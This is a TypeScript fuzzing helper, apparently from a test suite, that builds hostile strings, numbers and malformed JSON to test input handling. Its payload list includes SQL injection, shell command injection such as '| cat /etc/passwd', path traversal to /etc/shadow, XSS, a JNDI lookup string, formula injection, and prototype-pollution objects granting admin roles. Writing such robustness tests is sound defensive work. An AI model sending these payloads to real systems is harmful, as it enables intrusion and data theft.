import type { Random } from '../random.ts'

/** Texts that have broken other programs. */
const texts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff',
  '\u202e\u2066evil',
  '\u200b\u200c\u200d\ufeff',
  '\u0007\u001b[31m\u0008',
  '\r\nx-injected: 1',
  '\u2028\u2029',
  '𝒜😀🏳️‍🌈',
  'ﷺ'.repeat(50),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  "' OR '1'='1",
  "'; DROP TABLE usuario; --",
  '1 UNION SELECT password_hash FROM usuario',
  '%27%20OR%201=1--',
  '\\',
  '%',
  '_%',
  '$(touch /tmp/x)',
  '`id`',
  '| cat /etc/passwd',
  '; sleep 10;',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'file:///etc/passwd',
  'C:\\boot.ini',
  '%2e%2e%2f%2e%2e%2f',
  '..%c0%af..%c0%af',
  '....//....//',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}\u0024{7*7}<%= 7*7 %>#{7*7}',
  '\u0024{jndi:ldap://a.example/x}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  'true',
  '0',
  '-1',
  '1e309',
  '0x10',
  '９９',
  '١٢٣',
  '1,000.5',
  '00000000000000000000000000000001',
  '9007199254740993',
  '2026-02-30',
  '0000-00-00',
  '99999-01-01',
  '2026-05-31T25:61',
  '1970-01-01T00:00:00.000Z',
  'a@b@c',
  '@',
  'ıİſK',
  'Ⅷ',
  '=cmd|x!A1',
  '[object Object]',
  '*',
  '(a+)+$',
  `${'a'.repeat(40)}!`,
]

const numbers = [
  0,
  -0,
  -1,
  1,
  0.1,
  1e21,
  -1e21,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  1e308,
  5e-324,
]

/** Keys that mean something to the language itself. */
const prototypeKeys = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'then', 'toJSON']

/** A text from the list, or a long one; one in a hundred is a megabyte. */
export function hostileText(random: Random): string {
  if (random.chance(0.85)) return random.pick(texts)
  const length = random.pick(random.chance(0.02) ? [1_000_000] : [256, 300, 1001, 5000, 65_536])
  return random.pick(['a', 'Ñ', '😀', ' ', '<p>', '(', '%', '\\'] as const).repeat(length)
}

/** A hostile JSON value. */
function hostileValue(random: Random): unknown {
  switch (random.between(0, 9)) {
    case 0:
      return null
    case 1:
      return random.chance(0.5)
    case 2:
    case 3:
      return random.pick(numbers)
    case 4:
      return random.pick<unknown>([
        [],
        {},
        [[]],
        [null],
        [{}],
        { id: {} },
        { length: 1e9 },
        [1, 'a', null, {}],
      ])
    case 5:
      return nested(random.pick([10, 49, 51, 500, 1500]), random.chance(0.5))
    case 6:
      return Array.from({ length: random.pick(random.chance(0.03) ? [100_001] : [10, 201, 1001]) }, () => ({
        id: 1,
      }))
    case 7:
      return Object.fromEntries(
        prototypeKeys.map((key) => [`${key}`, { admin: true, authorities: ['ROLE_ADMIN'] }]),
      )
    default:
      return hostileText(random)
  }
}

/** Lists or objects inside each other. */
function nested(depth: number, asList: boolean): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = asList ? [value] : { a: value }
  return value
}

/** The value with something somewhere in it replaced, left out or added; what comes in is not changed. */
export function spoil(value: unknown, random: Random): unknown {
  if (typeof value !== 'object' || value === null || random.chance(0.15)) return hostileValue(random)
  if (Array.isArray(value)) {
    if (value.length === 0 || random.chance(0.2)) return [...value, hostileValue(random)]
    const at = random.between(0, value.length - 1)
    return value.map((each, position) => (position === at ? spoil(each, random) : each))
  }
  const entries = Object.entries(value)
  if (entries.length === 0 || random.chance(0.15))
    return Object.fromEntries([
      ...entries,
      [random.pick([...prototypeKeys, 'authorities', 'holder', 'id', '']), hostileValue(random)],
    ])
  const at = random.between(0, entries.length - 1)
  if (random.chance(0.15)) return Object.fromEntries(entries.filter((_, position) => position !== at))
  return Object.fromEntries(
    entries.map(([key, each], position) => [key, position === at ? spoil(each, random) : each]),
  )
}

/** JSON that is none any more, or says something twice. */
export function spoilJson(json: string, random: Random): Buffer {
  const at = random.between(0, json.length)
  switch (random.between(0, 13)) {
    case 0:
      return Buffer.from(json.slice(0, at))
    case 1:
      return Buffer.from(
        json.slice(0, at) + random.pick(['"', '}', ']', ',', '\u0000', '\\u', '{', '/*']) + json.slice(at),
      )
    case 2:
      return Buffer.from(json.replace('{', '{"id":1,"id":"1","__proto__":{"admin":true},'))
    case 3:
      return Buffer.from(`\ufeff${json}`)
    case 4:
      return Buffer.from(json, 'utf16le')
    case 5:
      return Buffer.from(json.replace(/[aeiou]/, 'ñ'), 'latin1')
    case 6:
      return Buffer.from(`${json}${json}`)
    case 7:
      return Buffer.from(json.replaceAll('"', "'"))
    case 8:
      return Buffer.concat([Buffer.from(json), Buffer.from([0xff, 0xfe, 0x00, 0xc0, 0x80])])
    case 9:
      return Buffer.from('['.repeat(random.pick([100, 10_000, 200_000])))
    case 10:
      return Buffer.from(json.replace(/:/, ':NaN,"x":'))
    case 11:
      return Buffer.from(
        random.pick(['', ' ', 'null', '0', '"', '[]', '{}', 'true', '-', '1e999', '"\\ud800"']),
      )
    case 12:
      return Buffer.from(json.replace('{', '{"\\u005f\\u005fproto\\u005f\\u005f":{"a":1},'))
    default:
      return Buffer.from(json.replace(/\}$/, `,"x":"${'\\u0041'.repeat(random.pick([10, 10_000]))}"}`))
  }
}
